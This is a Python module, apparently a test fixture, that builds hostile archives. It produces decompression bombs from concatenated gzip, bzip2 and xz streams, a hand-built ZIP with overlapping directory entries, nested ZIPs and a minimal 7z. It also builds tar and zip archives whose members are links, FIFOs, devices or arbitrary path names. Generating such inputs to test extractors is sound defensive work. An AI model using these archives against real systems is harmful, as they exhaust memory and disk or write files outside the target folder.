"""Archives that unpack to far more than they weigh, and archives whose members want out. Standard library only."""

import binascii
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

CHUNK = 16 << 20  # bytes of one packed block; a bomb is the same block again and again


def stream_bomb(pack, size, line=b"a"):
    """Packed streams one behind the other: gzip, bzip2 and xz read them as one."""
    return pack(line * (CHUNK // len(line))) * max(1, size // CHUNK)


def gz(size, line=b"a"):
    return stream_bomb(lambda content: gzip.compress(content, 9), size, line)


def xz(size):
    return stream_bomb(lambda content: lzma.compress(content, preset=0), size)


def bz(size):
    return stream_bomb(bz2.compress, size)


def deflated(size):
    """One raw deflate stream of so many letters, and its checksum."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b"a" * CHUNK) + packer.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9, zlib.DEFLATED, -15)
    checksum, content = 0, b"a" * CHUNK
    times = max(1, size // CHUNK)
    for _ in range(times):
        checksum = binascii.crc32(content, checksum)
    return block * times + again.flush(), checksum, CHUNK * times


def zip_bomb(size, name="bomb.md"):
    """One member that unpacks to `size`."""
    data, checksum, length = deflated(size)
    return zip_file([(name.encode(), data, checksum, length)])


def zip_file(members, copies=1):
    """A ZIP archive by hand; with `copies`, the directory names each member several times over the same bytes."""
    out, directory, entries = bytearray(), bytearray(), 0
    for name, data, checksum, length in members:
        offset = len(out)
        fields = (20, 0x800, 8, 0, 0, checksum, len(data), length)
        out += b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", *fields, len(name), 0) + name + data
        for copy in range(copies):
            shown = name if copies == 1 else f"{copy}-".encode() + name
            directory += b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, *fields, len(shown), 0, 0, 0, 0, 0, offset) + shown
            entries += 1
    end = struct.pack("<HHHHIIH", 0, 0, entries, entries, len(directory), len(out), 0)
    return bytes(out) + bytes(directory) + b"PK\x05\x06" + end


def overlapping_zip(size, copies):
    """Many names for the same packed bytes."""
    data, checksum, length = deflated(size)
    return zip_file([(b"bomb.md", data, checksum, length)], copies)


def nested_zip(size, width, depth):
    """Archives in archives: `width` to the power of `depth` members of `size` each."""
    content, name = zip_bomb(size), "bomb.zip"
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(width):
                archive.writestr(f"{level}-{number}-{name}", content)
        content = out.getvalue()
    return content


def seven(members):
    """A 7z archive of one LZMA2 stream for each member: the smallest form of the format."""
    packed, sizes, lengths, checksums, names = bytearray(), [], [], [], b""
    for name, content in members:
        data = lzma.compress(content, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 16}])
        packed += data
        sizes.append(len(data))
        lengths.append(len(content))
        checksums.append(binascii.crc32(content))
        names += name.encode("utf-16-le") + b"\0\0"
    count = len(members)
    folder = b"\x01" + b"\x21" + b"\x21" + b"\x01" + b"\x08"  # one coder, LZMA2, with one byte of properties: 64 KiB
    header = b"\x01\x04"
    header += b"\x06" + number7(0) + number7(count) + b"\x09" + b"".join(map(number7, sizes)) + b"\x00"
    header += b"\x07\x0b" + number7(count) + b"\x00" + folder * count + b"\x0c" + b"".join(map(number7, lengths)) + b"\x00"
    header += b"\x08\x0a\x01" + b"".join(struct.pack("<I", checksum) for checksum in checksums) + b"\x00"
    header += b"\x00"
    header += b"\x05" + number7(count) + b"\x11" + number7(len(names) + 1) + b"\x00" + names + b"\x00\x00"
    start = struct.pack("<QQI", len(packed), len(header), binascii.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", binascii.crc32(start)) + start + bytes(packed) + header


def number7(value):
    """A number as 7z writes it: the high bits of the first byte say how many bytes follow."""
    if value < 0x80:
        return bytes([value])
    for extra in range(1, 8):
        if value < 1 << (8 * extra + 7 - extra):
            first = (0xFF << (8 - extra)) & 0xFF | (value >> (8 * extra))
            return bytes([first]) + (value & ((1 << (8 * extra)) - 1)).to_bytes(extra, "little")
    return b"\xff" + value.to_bytes(8, "little")


def tar(members, mode="w:gz"):
    """A tar archive of (name, kind, content): a file, or a link, FIFO or device."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, kind, content in members:
            entry = tarfile.TarInfo(name)
            entry.type = kind
            if kind == tarfile.REGTYPE:
                entry.size = len(content)
                archive.addfile(entry, io.BytesIO(content))
            else:
                entry.linkname = content
                entry.devmajor = 1
                entry.devminor = 5
                archive.addfile(entry)
    return out.getvalue()


def zip_members(members):
    """A ZIP archive of names and contents, whatever the names."""
    packed = []
    for name, content in members:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed.append((name, packer.compress(content) + packer.flush(), binascii.crc32(content), len(content)))
    return zip_file(packed)
